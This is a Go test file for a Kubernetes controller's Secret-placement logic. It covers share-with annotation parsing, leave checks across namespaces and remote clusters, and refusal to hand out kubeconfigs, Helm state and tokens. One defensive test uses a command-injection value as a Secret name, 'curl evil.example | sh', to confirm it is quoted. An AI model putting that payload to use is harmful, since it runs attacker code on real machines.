// Copyright The Strata Authors.
// SPDX-License-Identifier: Apache-2.0

package placement

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"pgregory.net/rapid"

	"github.com/strata-project/strata/api/v1alpha1"
	"github.com/strata-project/strata/internal/directories/directoriestest"
	"github.com/strata-project/strata/internal/objects"
	"github.com/strata-project/strata/internal/reserved"
)

func sharedWith(text string) func(*unstructured.Unstructured) {
	return func(obj *unstructured.Unstructured) {
		obj.SetAnnotations(map[string]string{v1alpha1.ShareWithAnnotation: text})
	}
}

func TestPlaces(t *testing.T) {
	origin := objects.ID{Kind: "Secret", Namespace: "payments", Name: "db"}
	there, beside := origin.On("fleet/prod"), objects.ID{Kind: "Secret", Namespace: "fleet", Name: "db"}
	own := prod
	own.OwnNamespaceOnly = true
	for name, test := range map[string]struct {
		place  Place
		origin objects.ID
		want   []objects.ID
	}{
		"of another namespace":   {prod, origin, []objects.ID{there, beside, origin}},
		"of the RemoteCluster's": {prod, beside, []objects.ID{beside.On("fleet/prod"), beside}},
		"without crossing":       {own, origin, []objects.ID{there, beside}},
	} {
		if diff := cmp.Diff(test.want, test.place.Places(test.origin)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", name, diff)
		}
	}
}

func TestJudge(t *testing.T) {
	yes, no := true, false
	unshared := Verdict{Unshared: true}
	const (
		command       = "kubectl --namespace payments annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod"
		commandBeside = "is not given without leave: kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"
	)
	withAccount := prod
	withAccount.Account = "deployer"
	there := func(name string) objects.ID {
		return objects.ID{Kind: "Secret", Namespace: "payments", Name: name, Cluster: "fleet/prod"}
	}
	here := func(namespace, name string) objects.ID {
		return objects.ID{Kind: "Secret", Namespace: namespace, Name: name}
	}
	kept := map[string]func(*unstructured.Unstructured){
		"a copy of a kubeconfig":  directoriestest.Labelled(v1alpha1.ClusterLabel, "other"),
		"a revision":              directoriestest.Labelled(v1alpha1.RevisionOfLabel, "base"),
		"the key of digests":      directoriestest.OfType(v1alpha1.DigestKeyType),
		"a copy":                  directoriestest.Annotated(v1alpha1.CopyOfAnnotation, "Secret/a/b"),
		"what Helm keeps":         directoriestest.OfType("helm.sh/release.v1"),
		"a token of an account":   directoriestest.OfType("kubernetes.io/service-account-token"),
		"one without its type":    directoriestest.Annotated("kubernetes.io/service-account.name", "admin"),
		"a bootstrap token":       directoriestest.OfType("bootstrap.kubernetes.io/token"),
		"passwords of a claim":    directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"),
		"what HostClusters have":  directoriestest.Labelled(v1alpha1.HostClusterLabel, "edge"),
		"what a plug-in runs by":  directoriestest.Labelled(v1alpha1.PluginLabel, "0123"),
		"a copy with a finalizer": func(obj *unstructured.Unstructured) { obj.SetFinalizers([]string{v1alpha1.KubeConfigFinalizer}) },
	}
	cases := map[string]struct {
		reason string
		place  Place
		at     objects.ID
		seen   Looked
		want   Verdict
		words  []string
	}{
		"on its own cluster":       {"as a release at home finds it", prod, there("db"), Looked{Object: directoriestest.Secret("payments", "db")}, Verdict{Given: true, By: byCluster}, nil},
		"beside the RemoteCluster": {"where it lies is no leave", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db")}, unshared, []string{commandBeside}},
		"a ConfigMap beside it":    {"ConfigMaps hold no secrets", prod, objects.ID{Kind: "ConfigMap", Namespace: "fleet", Name: "db"}, Looked{Object: directoriestest.Any("v1", "ConfigMap", "fleet", "db").Object}, Verdict{Given: true, By: byNamespace}, nil},
		"beside it, shared with all": {
			"one word for all clusters of the namespace", prod, here("fleet", "db"),
			Looked{Object: directoriestest.Secret("fleet", "db", sharedWith("remoteclusters"))},
			Verdict{Given: true, By: byAnnotation},
			nil,
		},
		"elsewhere, shared with all": {
			"with all of its own namespace, which has other clusters", prod, here("payments", "db"),
			Looked{Object: directoriestest.Secret("payments", "db", sharedWith("remoteclusters"))},
			unshared,
			[]string{command},
		},
		"beside it, the account may":   {"it gets no more than that", withAccount, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Allowed: &yes}, Verdict{Given: true, By: byAccount}, nil},
		"beside it, with an account":   {"its rights have to be asked for", withAccount, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db")}, Verdict{Ask: true}, nil},
		"nothing beside it":            {"whether it exists is not told", prod, here("fleet", "db"), Looked{}, unshared, []string{commandBeside}},
		"beside it, copied before":     {"it goes on for a while, and says how it can for good", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Copied: true}, Verdict{Given: true, Ending: "kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod (remoteclusters in place of that gives it to all RemoteClusters of fleet)"}, nil},
		"elsewhere, copied before":     {"that needed leave always", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db"), Copied: true}, unshared, []string{command}},
		"a key of hosts, shared":       {"no leave gives it", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", sharedWith("remoteclusters")), Kept: KeptForLogin}, Verdict{}, []string{"is never given", KeptForLogin}},
		"a key of hosts, copied":       {"nor what was copied before", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Kept: KeptForLogin, Copied: true}, Verdict{}, []string{"is never given", KeptForLogin}},
		"a key of hosts":               {"without leave nothing is told of it", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Kept: KeptForLogin}, unshared, []string{commandBeside}},
		"passwords of a claim, shared": {"they are for its provider", prod, here("fleet", "db-passwords"), Looked{Object: directoriestest.Secret("fleet", "db-passwords", sharedWith("layer/base"), directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, Verdict{}, []string{"is never given", reserved.KeptForClaim}},
		"the cluster's own binding":    {"it was claimed for that cluster", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", directoriestest.Labelled(v1alpha1.ClaimLabel, "uid")), IsBinding: true}, Verdict{Given: true, By: byClaim}, nil},
		"another binding":              {"it needs leave", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, unshared, []string{"annotate --field-manager=strata-cli secret db-binding"}},
		"another binding, shared":      {"its owner says so", prod, here("fleet", "db-binding"), Looked{Object: directoriestest.Secret("fleet", "db-binding", sharedWith("layer/base"), directoriestest.Labelled(v1alpha1.ClaimLabel, "uid"))}, Verdict{Given: true, By: byAnnotation}, nil},
		"neither is shared": {
			"both places are named", prod, here("payments", "db"),
			Looked{Unshared: true},
			unshared,
			[]string{"is not on RemoteCluster fleet/prod, and those of the namespaces fleet and payments are not given without leave: kubectl --namespace fleet annotate --field-manager=strata-cli secret db kraan.io/share-with=remotecluster/fleet/prod, or " + command},
		},
		"elsewhere":               {"nobody has given it", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db")}, unshared, []string{command}},
		"nothing elsewhere":       {"whether it exists is not told", prod, here("payments", "db"), Looked{}, unshared, []string{command}},
		"shared with the cluster": {"its owner says so", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/other, remotecluster/fleet/prod"))}, Verdict{Given: true, By: byAnnotation}, nil},
		"shared with the layer":   {"its owner says so", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/base"))}, Verdict{Given: true, By: byAnnotation}, nil},
		"shared with others":      {"a name that begins so is another's", prod, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/base2,remotecluster/fleet/prod-2,remotecluster/fleet2/prod"))}, unshared, []string{command}},
		"shared by a mistake": {
			"nothing is given where it is not clear to whom", prod, here("payments", "db"),
			Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/base, remotecluster/fleet/*"))},
			Verdict{},
			[]string{`its annotation kraan.io/share-with is wrong: " remotecluster/fleet/*" must be remotecluster/NAMESPACE/NAME, layer/NAME or remoteclusters`},
		},
		"with an account":                 {"its rights have to be asked for", withAccount, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db")}, Verdict{Ask: true}, nil},
		"shared, with an account":         {"nobody has to ask", withAccount, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/base"))}, Verdict{Given: true, By: byAnnotation}, nil},
		"the account may":                 {"it gets no more than that", withAccount, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db"), Allowed: &yes}, Verdict{Given: true, By: byAccount}, nil},
		"the account may, missing":        {"then it is told", withAccount, here("payments", "db"), Looked{Allowed: &yes}, Verdict{}, nil},
		"the account may not":             {"both ways are named", withAccount, here("payments", "db"), Looked{Object: directoriestest.Secret("payments", "db"), Allowed: &no}, unshared, []string{command, "or let ServiceAccount fleet/deployer get it"}},
		"the account cannot be asked for": {"that is told", withAccount, here("payments", "db"), Looked{Unasked: "no right"}, unshared, []string{command, "whether it may cannot be asked: no right"}},
		"there, with an account":          {"its rights there have to be asked for, before anything is read", withAccount, there("db"), Looked{}, Verdict{Ask: true}, nil},
		"there, the account may":          {"as a release at home finds it", withAccount, there("db"), Looked{Object: directoriestest.Secret("payments", "db"), Allowed: &yes}, Verdict{Given: true, By: byCluster}, nil},
		"there, the account may, missing": {"there may be something elsewhere", withAccount, there("db"), Looked{Allowed: &yes}, Verdict{}, nil},
		"there, the account may not": {
			"the kubeconfig's rights are not the layer's", withAccount, there("db"),
			Looked{Object: directoriestest.Secret("payments", "db", sharedWith("layer/base")), Allowed: &no},
			Verdict{Barred: "is not given from RemoteCluster fleet/prod, where ServiceAccount fleet/deployer may not get it"},
			nil,
		},
		"there, the account cannot be asked for": {
			"that is told, and nothing given", withAccount, there("db"),
			Looked{Object: directoriestest.Secret("payments", "db"), Unasked: "no right"},
			Verdict{Barred: "is not given from RemoteCluster fleet/prod, where ServiceAccount fleet/deployer may not get it (whether it may cannot be asked: no right)"},
			nil,
		},
		"elsewhere, barred there": {
			"both clusters are named, and neither tells", withAccount, here("payments", "db"),
			Looked{Allowed: &no, Barred: "is barred there"},
			unshared,
			[]string{"is barred there, is not in the namespace fleet, and that of the namespace payments is not given without leave: " + command},
		},
		"Cluster API's, barred there": {
			"both clusters are named", withAccount, here("fleet", "db"),
			Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other")), Allowed: &no, Barred: "is barred there"},
			unshared,
			[]string{"is barred there, and that of the namespace fleet is not given without leave: "},
		},
		"beside it, barred there": {"both clusters are named", withAccount, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db"), Allowed: &no, Barred: "is barred there"}, unshared, []string{"is barred there, and that of the namespace fleet is not given without leave: "}},
		"its own copy by name":    {"never, whoever says so", withAccount, here("payments", "strata-kubeconfig-other"), Looked{Allowed: &yes}, Verdict{}, []string{"is never given", "Strata's own copy of a kubeconfig"}},
		"its own copy there":      {"the other cluster may have clusters, too", prod, there("strata-kubeconfig-other"), Looked{}, Verdict{}, []string{"is never given"}},
		"its own copy beside it":  {"of the namespace, too", prod, here("fleet", "strata-kubeconfig-other"), Looked{}, Verdict{}, []string{"is never given"}},
		"Helm's by name":          {"never", prod, here("fleet", "sh.helm.release.v1.a.v1"), Looked{}, Verdict{}, []string{"is never given", "what Helm keeps"}},
		"a kubeconfig beside it":  {"of whichever RemoteCluster", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", sharedWith("layer/base")), Kept: reserved.KeptSource}, Verdict{}, []string{"what a RemoteCluster has its kubeconfig from"}},
		"a kubeconfig there":      {"of a RemoteCluster behind it", prod, there("db"), Looked{Object: directoriestest.Secret("payments", "db"), Kept: reserved.KeptSource}, Verdict{}, []string{"what a RemoteCluster has its kubeconfig from"}},
		"Cluster API's":           {"the keys of another cluster lie in the same namespace", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other"))}, unshared, []string{"kubectl --namespace fleet annotate --field-manager=strata-cli secret db"}},
		"Cluster API's, shared":   {"its owner says so", prod, here("fleet", "db"), Looked{Object: directoriestest.Secret("fleet", "db", directoriestest.Labelled("cluster.x-k8s.io/cluster-name", "other"), sharedWith("layer/base"))}, Verdict{Given: true, By: byAnnotation}, nil},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			origin := here("payments", tc.at.Name)
			got := tc.place.Judge(origin, tc.at, tc.seen)
			for _, words := range tc.words {
				if !strings.Contains(got.Withheld, words) {
					t.Errorf("%s: it says %q, want %q in it", tc.reason, got.Withheld, words)
				}
			}
			if len(tc.words) > 0 {
				got.Withheld = ""
			}
			if got != tc.want {
				t.Errorf("%s: %+v, want %+v", tc.reason, got, tc.want)
			}
		})
	}
	for name, change := range kept {
		t.Run(name, func(t *testing.T) {
			for _, at := range []objects.ID{there("db"), here("fleet", "db"), here("payments", "db")} {
				obj := directoriestest.Secret(at.Namespace, "db", sharedWith("layer/base"), change)
				if at.Namespace == "payments" && obj.GetAnnotations()[v1alpha1.ShareWithAnnotation] == "" {
					t.Fatal("the case shows nothing")
				}
				if got := withAccount.Judge(here("payments", "db"), at, Looked{Object: obj, Allowed: &yes}); got.Given || got.Ask || !strings.Contains(got.Withheld, "is never given") {
					t.Errorf("%s: %+v", at, got)
				}
			}
		})
	}
}

// Without leave nothing can be learnt of what is elsewhere: whatever an object holds
// and is, the same is said.
func TestJudgeTellsNothing(t *testing.T) {
	no, withAccount := false, prod
	withAccount.Account = "deployer"
	origin := objects.ID{Kind: "Secret", Namespace: "payments", Name: "db"}
	there := origin.On("fleet/prod")
	want, wantThere := prod.Judge(origin, origin, Looked{}), withAccount.Judge(origin, there, Looked{Allowed: &no})
	if wantThere.Barred == "" || wantThere.Given {
		t.Fatalf("it says %+v", wantThere)
	}
	for _, change := range []func(*unstructured.Unstructured){
		func(*unstructured.Unstructured) {}, directoriestest.OfType("helm.sh/release.v1"), directoriestest.Labelled(v1alpha1.ClusterLabel, "x"), sharedWith("layer/other"), directoriestest.Annotated(v1alpha1.CopyOfAnnotation, "x"),
	} {
		seen := Looked{Object: directoriestest.Secret("payments", "db", change), Kept: reserved.KeptSource}
		if got := prod.Judge(origin, origin, seen); got != want {
			t.Errorf("it says %+v, and of nothing %+v", got, want)
		}
		seen.Allowed = &no
		if got := withAccount.Judge(origin, there, seen); got != wantThere {
			t.Errorf("of the layer's own cluster it says %+v, and of nothing %+v", got, wantThere)
		}
	}
}

// The name of what a release reads is its author's to write: in the command that gives leave it
// is one word.
func TestCommandsThatShareAreMadeOfWords(t *testing.T) {
	origin := objects.ID{Kind: "Secret", Namespace: "payments", Name: "db; curl evil.example | sh #"}
	verdict := prod.Judge(origin, origin, Looked{Unshared: true})
	if strings.Count(verdict.Withheld, "annotate --field-manager=strata-cli secret 'db; curl evil.example | sh #' kraan.io/share-with=") != 2 {
		t.Errorf("it says %s", verdict.Withheld)
	}
}

func TestParseShares(t *testing.T) {
	cluster := func(namespace, name string) Share {
		return Share{Cluster: types.NamespacedName{Namespace: namespace, Name: name}}
	}
	const noShare = "must be remotecluster/NAMESPACE/NAME, layer/NAME or remoteclusters"
	cases := map[string]struct {
		text string
		want []Share
		err  string
	}{
		"a cluster":        {"remotecluster/fleet/prod", []Share{cluster("fleet", "prod")}, ""},
		"both, with space": {"remotecluster/fleet/prod.eu,  layer/base.v2 ", []Share{cluster("fleet", "prod.eu"), {Layer: "base.v2"}}, ""},
		"all clusters":     {"layer/base, remoteclusters", []Share{{Layer: "base"}, {Clusters: true}}, ""},
		"one word more":    {"remoteclusters/fleet", nil, noShare},
		"another word":     {"remotecluster", nil, noShare},
		"empty":            {"", nil, "it is empty"},
		"blank":            {"  ", nil, "it is empty"},
		"ends in a comma":  {"layer/base,", nil, noShare},
		"a pattern":        {"layer/*", nil, noShare},
		"all":              {"*", nil, noShare},
		"no name":          {"layer/", nil, noShare},
		"no namespace":     {"remotecluster//prod", nil, noShare},
		"one part":         {"remotecluster/prod", nil, noShare},
		"three parts":      {"remotecluster/fleet/prod/x", nil, noShare},
		"capitals":         {"Layer/base", nil, noShare},
		"another kind":     {"platform/base", nil, noShare},
		"a line break":     {"layer/base\nlayer/other", nil, noShare},
		"a tab":            {"layer/base,\tlayer/other", nil, noShare},
		"another comma":    {"layer/a，layer/b", nil, noShare},
		"another slash":    {"layer∕base", nil, noShare},
		"too long":         {"layer/" + strings.Repeat("a", 254), nil, noShare},
		"too many":         {strings.Repeat("layer/a,", maxShares) + "layer/a", nil, "it has 1001 entries, more than 1000"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := ParseShares(tc.text)
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
			if (err != nil) != (tc.err != "") || err != nil && !strings.Contains(err.Error(), tc.err) {
				t.Errorf("it says %v, want %q", err, tc.err)
			}
			if err != nil && len(err.Error()) > 600 {
				t.Errorf("the error has %d bytes", len(err.Error()))
			}
		})
	}
}

// Whatever an annotation holds, it gives an object to nobody who is not written there
// in full.
func TestSharesNameInFull(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.OneOf(rapid.String(), rapid.StringMatching(`(remotecluster/|layer/|[a-z/, *\.\n-]){1,8}`)).Draw(t, "text")
		shared, err := prod.sharedWith(directoriestest.Secret("payments", "db", sharedWith(text)))
		entries := strings.Split(text, ",")
		for i := range entries {
			entries[i] = strings.Trim(entries[i], " ")
		}
		named := slices.Contains(entries, "remotecluster/fleet/prod") || slices.Contains(entries, "layer/base")
		if shared && (!named || err != nil) {
			t.Fatalf("%q gives it to fleet/prod", text)
		}
	})
}
